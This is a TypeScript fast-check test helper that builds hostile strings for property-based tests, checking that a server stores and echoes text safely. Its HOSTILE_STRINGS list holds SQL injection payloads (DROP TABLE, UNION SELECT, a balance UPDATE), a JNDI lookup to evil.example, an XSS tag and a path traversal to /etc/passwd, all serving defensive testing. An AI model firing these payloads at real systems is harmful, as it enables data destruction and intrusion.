// Scenarios 13 and 14's hostile strings: the SQL-metacharacter list, the storable / bare-key / header-safe predicates
// and the text arbitraries built from them.
import fc from 'fast-check';

/**
 * SQL metacharacters and friends. The storable ones (all but the control characters at the end) must be stored and
 * echoed byte for byte; hostileText() keeps only those, anyText() mixes in the rest.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR ""="',
  '1; DELETE FROM accounts',
  "admin'--",
  "'); UPDATE accounts SET balance = 999999999 WHERE ('1'='1",
  "' UNION SELECT balance FROM accounts --",
  'SELECT pg_sleep(5)',
  '$$; DROP TABLE ledger_entries; $$',
  '$1',
  '$$',
  "E'\\x41'",
  '/* comment */',
  '--',
  ';',
  '`',
  "'",
  '"',
  '\\',
  '\\\\',
  "\\'",
  '%',
  '%%',
  '_',
  '%_%',
  "'%'",
  '%27',
  '%00',
  '\\0',
  '\\x00',
  '\\u0000',
  'char(39)',
  'NULL',
  'null',
  'undefined',
  'NaN',
  'true',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '%s%n%x',
  '\u202e\u0631\u202c',
  '\ufeff',
  '😀👍🏽',
  '名前',
  'Ω≈ç√',
  '\u00a0',
  '\u2028\u2029',
  'e\u0301',
  '\ud83d\ude00',
  '\t\r\n',
  '\u0001\u001f',
  '\u007f',
];

/**
 * The README's storable-text rule, written out code unit by code unit rather than copied from the server's pattern
 * (scenario 14 checks that the two agree): no control character but tab and line feed (C0, DEL, C1), no unpaired
 * UTF-16 surrogate.
 */
export function storable(s: string): boolean {
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff) {
      const next = s.charCodeAt(i + 1); // NaN past the end: no pair
      if (!(next >= 0xdc00 && next <= 0xdfff)) return false;
      i++; // the pair is one astral code point
    } else if (c >= 0xdc00 && c <= 0xdfff) {
      return false;
    } else if ((c < 0x20 && c !== 0x09 && c !== 0x0a) || (c >= 0x7f && c <= 0x9f)) {
      return false;
    }
  }
  return true;
}
/** Printable ASCII without comma, not starting or ending with a space: survives fetch and is a valid bare key part. */
export const bareKeySafe = (s: string): boolean =>
  /^[\x21-\x2b\x2d-\x7e]([\x20-\x2b\x2d-\x7e]*[\x21-\x2b\x2d-\x7e])?$/.test(s);
/** A header value fetch sends as is: bytes 0x20-0xFF (tab allowed inside), no leading or trailing whitespace. */
export const fetchHeaderSafe = (s: string): boolean =>
  /^[\x21-\x7e\x80-\xff]([\t\x20-\x7e\x80-\xff]*[\x21-\x7e\x80-\xff])?$/.test(s);

export const hostileText = (maxUnits: number): fc.Arbitrary<string> =>
  fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
      {
        weight: 1,
        // Whitespace and invisible characters that are legal text (the control characters among them are tab and LF).
        arbitrary: fc.string({
          unit: fc.constantFrom('\t', '\n', ' ', '\u00a0', '\u00ad', '\u200b', '\u2028', '\u2029', '\ufeff'),
          maxLength: 6,
        }),
      },
      {
        weight: 1,
        arbitrary: fc
          .array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 2, maxLength: 4 })
          .map((a) => a.join(' ')),
      },
    )
    .filter((s) => storable(s) && s.length <= maxUnits);

export const printableAscii = (min: number, max: number): fc.Arbitrary<string> =>
  fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
    minLength: min,
    maxLength: max,
  });

/** One character (or a reversed pair) the storable-text rule refuses. */
export const unstorableChar: fc.Arbitrary<string> = fc.oneof(
  fc
    .integer({ min: 0, max: 0x1f })
    .filter((c) => c !== 0x09 && c !== 0x0a)
    .map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0x7f, max: 0x9f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.constant('\ude00\ud83d'),
);

/**
 * Any text a client might send, storable or not: hostile legal text, the same with refused characters put anywhere
 * (even between the halves of a pair), strings of arbitrary UTF-16 code units, and the raw hostile list.
 */
export const anyText = (maxUnits: number): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: hostileText(maxUnits) },
    {
      weight: 4,
      arbitrary: fc
        .record({ s: hostileText(Math.max(0, maxUnits - 2)), at: fc.nat(), bad: unstorableChar })
        .map(({ s, at, bad }) => s.slice(0, at % (s.length + 1)) + bad + s.slice(at % (s.length + 1))),
    },
    {
      weight: 1,
      arbitrary: fc.string({
        unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
        maxLength: 12,
      }),
    },
    { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).filter((t) => t.length <= maxUnits) },
  );
